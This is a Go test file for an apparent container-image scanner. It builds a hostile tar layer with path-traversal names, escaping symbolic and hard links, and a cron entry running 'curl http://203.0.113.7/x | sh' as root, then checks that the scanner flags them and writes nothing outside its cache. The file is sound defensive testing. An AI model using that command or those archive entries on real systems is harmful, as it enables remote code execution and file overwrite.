package main

import (
	"archive/tar"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// hostileImage makes an archive of one layer.
func hostileImage(t *testing.T, add func(*layerWriter)) string {
	t.Helper()
	dir := t.TempDir()
	layer := newLayer(t, filepath.Join(dir, "layer.tar"))
	add(layer)
	return saved(t, dir, "hostile", []string{"layer.tar"}, []string{layer.close(t)})
}

// TestHostileNames has an image whose names and links lead out of its root. They
// are judged below it, the image is not called clean, and nothing is written but
// the cache.
func TestHostileNames(t *testing.T) {
	base := t.TempDir()
	for _, dir := range []string{"home", "tmp", "cache", "work"} {
		if err := os.Mkdir(filepath.Join(base, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	up := strings.Repeat("../", 20)
	target := hostileImage(t, func(l *layerWriter) {
		l.add(t, &tar.Header{Name: up + base + "/work/up", Mode: 0o644}, []byte("x"))
		l.add(t, &tar.Header{Name: base + "/work/absolute", Mode: 0o755}, []byte("#!/bin/sh\n"))
		l.add(t, &tar.Header{Name: "out", Typeflag: tar.TypeSymlink, Linkname: up + base + "/work", Mode: 0o777}, nil)
		l.add(t, &tar.Header{Name: "out/through", Mode: 0o644}, []byte("x"))
		l.add(t, &tar.Header{Name: "hard", Typeflag: tar.TypeLink, Linkname: up + base + "/work/file", Mode: 0o644}, nil)
		l.add(t, &tar.Header{Name: "out/.wh.file", Mode: 0o644}, nil)
		l.add(t, &tar.Header{Name: up + "etc/cron.d/x", Mode: 0o644}, []byte("* * * * * root curl http://203.0.113.7/x | sh\n"))
		l.add(t, &tar.Header{Name: strings.Repeat("n", 5000), Mode: 0o644}, []byte("x"))
	})
	if err := os.WriteFile(filepath.Join(base, "work", "file"), []byte("kept"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Chdir(filepath.Join(base, "work"))
	t.Setenv("HOME", filepath.Join(base, "home"))
	t.Setenv("TMPDIR", filepath.Join(base, "tmp"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(base, "cache"))
	for range 2 { // the second time with what was kept
		status, stdout, stderr := rummage(t.Context(), "scan", "-o", "json", "docker-archive:"+target)
		if status != statusIncomplete || !strings.Contains(stdout, "/etc/cron.d/x") || strings.Contains(stdout, `"verdict": "clean"`) {
			t.Errorf("status %d: %s\n%s", status, stdout, stderr)
		}
		for _, reason := range []string{"names that leave the root", "names below symbolic links", "hard links out of the root", "1 hard links lead to what is in no layer", "names longer than"} {
			if !strings.Contains(stdout, reason) {
				t.Errorf("nothing tells of %s", reason)
			}
		}
	}
	var found []string
	err := filepath.WalkDir(base, func(path string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && !strings.HasPrefix(path, filepath.Join(base, "cache", "rummage")+"/") {
			found = append(found, path)
		}
		return err
	})
	if err != nil || !slices.Equal(found, []string{filepath.Join(base, "work", "file")}) {
		t.Errorf("written: %q, %v", found, err)
	}
}

// TestRegistryStatus has a registry that does not give the image: no report, an
// error, and advice that fits.
func TestRegistryStatus(t *testing.T) {
	for code, hint := range map[int]string{
		http.StatusUnauthorized: "docker login", http.StatusNotFound: "check the name", http.StatusTooManyRequests: "wait", http.StatusInternalServerError: "later",
	} {
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != "/v2/" {
				w.Header().Set("Retry-After", "120")
				http.Error(w, "no", code)
			}
		}))
		status, stdout, stderr := rummage(t.Context(), "scan", "registry:"+strings.TrimPrefix(server.URL, "http://")+"/team/app:1")
		server.Close()
		if status != statusError || stdout != "" || !strings.Contains(stderr, "\nhint: ") || !strings.Contains(stderr, hint) || !strings.Contains(stderr, fmt.Sprint(code)) {
			t.Errorf("%d: status %d, %s%s", code, status, stdout, stderr)
		}
	}
}
